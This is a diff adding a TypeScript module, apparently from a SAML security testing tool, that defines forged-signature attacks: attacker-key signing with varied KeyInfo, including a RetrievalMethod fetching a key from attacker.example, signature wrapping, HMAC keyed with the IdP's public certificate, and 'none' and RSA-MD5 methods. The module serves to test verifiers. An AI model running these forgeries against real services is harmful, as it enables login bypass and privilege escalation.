@@ -1,0 +1,104 @@
+import type { SigningKey } from '../../domain/idp.ts'
+import { signsBoth } from '../faults/fault.ts'
+import { type Attack, NOT_CONFIGURED, RESPONSE_INVALID, STRUCTURE } from './attack.ts'
+import { promote, replace, withoutAssertionSignature, withoutResponseSignature } from './edit.ts'
+import {
+  type Forgery,
+  forgeBoth,
+  forgeSignature,
+  forgeWithHmac,
+  genuineCertificateOf,
+  x509Data,
+} from './forge-signature.ts'
+
+const SIGNATURES = /<((?:\w+:)?Signature)[\s>][\s\S]*?<\/\1>/g
+const bare = (pem: string) => pem.replace(/-----[A-Z ]+-----|\s/g, '')
+
+/** The message as the attacker wants it, without a signature. */
+const evil = (xml: string) => promote(xml.replace(SIGNATURES, ''))
+const by = ({ privateKey }: SigningKey, keyInfo: Forgery['keyInfo']): Forgery => ({ key: privateKey, keyInfo })
+const certificateOf = ({ certificate }: SigningKey) => bare(certificate)
+
+/** What KeyInfo says of the attacker's key, which signed both; and the finding. */
+const KEY_INFOS: [
+  name: string,
+  what: string,
+  keyInfo: (foreign: string, genuine: string) => string | null,
+  finding: string,
+][] = [
+  ['foreign', 'holds their own certificate', (foreign) => x509Data(foreign), NOT_CONFIGURED],
+  ['genuine', 'holds that of the IdP', (_, genuine) => x509Data(genuine), RESPONSE_INVALID],
+  [
+    'genuine-then-foreign',
+    'holds that of the IdP and then their own',
+    (foreign, genuine) => x509Data(genuine, foreign),
+    RESPONSE_INVALID,
+  ],
+  [
+    'foreign-then-genuine',
+    'holds their own certificate and then that of the IdP',
+    (foreign, genuine) => x509Data(foreign, genuine),
+    NOT_CONFIGURED,
+  ],
+  ['absent', 'is not there', () => null, NOT_CONFIGURED],
+  [
+    'retrieval-method',
+    'asks the verifier to fetch the key',
+    () => '<ds:RetrievalMethod URI="http://attacker.example/key.crt"/>',
+    NOT_CONFIGURED,
+  ],
+]
+
+const SIGNED_BY_THE_ATTACKER: Attack[] = KEY_INFOS.map(([name, what, keyInfo, finding]) => ({
+  name: `own-key-and-key-info-${name}`,
+  title: `The attacker signs an evil message with an own key, and KeyInfo ${what}.`,
+  finding,
+  forge: (xml, attacker) =>
+    forgeBoth(evil(xml), by(attacker, keyInfo(certificateOf(attacker), genuineCertificateOf(xml)))),
+}))
+
+const withMethod = (xml: string, algorithm: string) =>
+  replace(promote(xml), /(?<=SignatureMethod Algorithm=")[^"]*/, algorithm)
+
+/** Keys that are not the IdP's, and methods that turn what is public into a key. */
+export const KEYS: readonly Attack[] = [
+  ...SIGNED_BY_THE_ATTACKER,
+  {
+    name: 'foreign-assertion-in-genuine-response',
+    title: 'The evil assertion has a foreign signature, and the genuine one of the Response is left in place.',
+    finding: NOT_CONFIGURED,
+    unfit: signsBoth,
+    forge: (xml, attacker) =>
+      forgeSignature(
+        promote(withoutAssertionSignature(xml)),
+        'Assertion',
+        by(attacker, x509Data(certificateOf(attacker))),
+      ),
+  },
+  {
+    name: 'foreign-response-around-genuine-assertion',
+    title: 'The genuine signed assertion travels in a Response that the attacker signed.',
+    finding: NOT_CONFIGURED,
+    unfit: signsBoth,
+    forge: (xml, attacker) =>
+      forgeSignature(withoutResponseSignature(xml), 'Response', by(attacker, x509Data(certificateOf(attacker)))),
+  },
+  {
+    name: 'hmac-with-certificate-as-secret',
+    title: 'Both are signed with HMAC-SHA1, and the public certificate of the IdP is the secret.',
+    finding: STRUCTURE,
+    forge: (xml) => forgeWithHmac(evil(xml), genuineCertificateOf(xml)),
+  },
+  {
+    name: 'signature-method-none',
+    title: "The signature method of the Response is 'none', and the user becomes an administrator.",
+    finding: STRUCTURE,
+    forge: (xml) => withMethod(xml, 'none'),
+  },
+  {
+    name: 'signature-method-md5',
+    title: 'The signature method of the Response is RSA-MD5, and the user becomes an administrator.',
+    finding: STRUCTURE,
+    forge: (xml) => withMethod(xml, 'http://www.w3.org/2001/04/xmldsig-more#rsa-md5'),
+  },
+]
